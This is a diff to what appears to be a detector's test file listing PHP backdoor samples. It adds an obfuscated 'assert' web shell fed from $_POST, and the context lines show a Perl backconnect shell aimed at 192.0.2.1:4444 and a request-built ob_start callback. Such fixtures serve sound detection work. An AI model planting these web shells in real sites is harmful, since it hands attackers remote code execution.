@@ -119,6 +119,10 @@ const backdoors: [string, string][] = [
     `<?php\n$s = 'IyEvdXNyL2Jpbi9wZXJsCg==';\n$fp = fopen('/tmp/.bc', 'w');\nfputs($fp, base64_decode($s));\nfclose($fp);\nsystem('perl /tmp/.bc 192.0.2.1 4444 &');\n`,
   ],
   [
+    'a name spliced with substr_replace',
+    `<?php\n$f = substr_replace('aert', 'ss', 1, 0);\narray_map($f, array($_POST['y']));\n`,
+  ],
+  [
     "ob_start's callback built from the request in a loop",
     `<?php\n$id = $_GET['id'];\n$s = '';\nforeach (array($id) as $v) { $s .= $v; }\nob_start($s);\necho $_GET['c'];\nob_end_flush();\n`,
   ],
